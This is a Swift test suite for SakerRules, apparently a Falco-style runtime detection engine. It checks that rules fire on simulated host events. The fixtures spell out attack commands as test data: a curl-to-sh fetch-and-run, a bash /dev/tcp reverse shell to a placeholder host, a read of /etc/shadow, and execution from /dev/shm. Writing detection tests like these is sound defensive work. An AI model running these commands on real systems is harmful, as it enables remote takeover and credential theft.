import SakerRules
import Testing

@Suite struct DefaultRulesScenarioTests {
    @Test(arguments: RuleScenario.all)
    func theRuleFiresOnItsScenario(_ scenario: RuleScenario) throws {
        let fired = try RuleScenario.run(scenario.fires)
        #expect(fired.contains(scenario.rule), "fired: \(fired)")
    }

    @Test(arguments: RuleScenario.all)
    func theRuleStaysQuietOnItsNearMiss(_ scenario: RuleScenario) throws {
        let fired = try RuleScenario.run(scenario.nearMiss)
        #expect(!fired.contains(scenario.rule), "fired: \(fired)")
    }

    @Test func aShellBelowAnyPHPFPMVersionIsFlagged() throws {
        let fired = try RuleScenario.run { host in
            host.snapshot(pid: 450, ppid: 1, comm: "php-fpm8.3", exepath: "/usr/sbin/php-fpm8.3", exe: "php-fpm: master process")
            host.exec("/usr/sbin/php-fpm8.3", [], pid: 451, parent: 450, exe: "php-fpm: pool www", uid: 33, fork: true)
            host.exec("/bin/sh", ["-c", "curl -s http://203.0.113.7/x | sh"], pid: 452, parent: 451, comm: "sh", uid: 33)
        }
        #expect(fired == ["Shell spawned by a network service"])
    }

    @Test func underFirstMatchTheMostTellingRuleReportsAnEvent() throws {
        // Falco's default: one alert per event, from the first matching rule in file order.
        let engine = RuleEngine(rules: DefaultRulesFixture.loaded, environment: HostScenario.environment, matching: .first)
        var host = HostScenario()
        host.exec("/bin/bash", ["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], pid: 600, parent: 431, comm: "bash", uid: 33)
        host.connect(pid: 600, fd: 3, local: "192.0.2.10:41000", remote: "203.0.113.7:4444", result: "0")
        host.syscall("dup2", pid: 600, [("res", .int(0)), ("oldfd", .int(3)), ("newfd", .int(0))])
        #expect(try host.replay(engine).map(\.rule) == [
            "Reverse shell command line", "Shell made a network connection",
            "Standard stream redirected to a network connection",
        ])
    }

    @Test func theBaselineHostRaisesNothing() throws {
        #expect(try HostScenario().replay().isEmpty)
    }

    @Test func anAlertCarriesTheRuleOutputFields() throws {
        var host = HostScenario()
        host.aliceRuns("/usr/bin/cat", ["/etc/shadow"], pid: 600, uid: 0)
        host.open("/etc/shadow", pid: 600)
        let alerts = try host.replay()
        let alert = try #require(alerts.first)
        #expect(alert.rule == "Read sensitive file by untrusted program")
        #expect(alert.priority == .warning)
        #expect(alert.tags.contains("mitre_credential_access"))
        #expect(alert.message.hasPrefix("Sensitive file opened for reading by untrusted program (file=/etc/shadow process=cat"))
        #expect(alert.message.contains("command=cat /etc/shadow parent=bash gparent=sshd user=root"))
        #expect(alert.message.contains("container_id=host"))
    }

    @Test func aRecordingReplaysFromTheCaptureFormat() throws {
        // The helpers write real capture files: header plus one JSON line per event.
        var host = HostScenario()
        host.exec("/dev/shm/x", [], pid: 600, parent: 431, uid: 33)
        let lines = host.text.split(separator: "\n")
        #expect(lines.first?.hasPrefix("{\"saker.capture\":{\"version\":1") == true)
        #expect(lines.last?.contains("\"evt.type\":\"execve\"") == true)
        #expect(try host.firedRules() == ["Execution from /dev/shm"])
    }
}
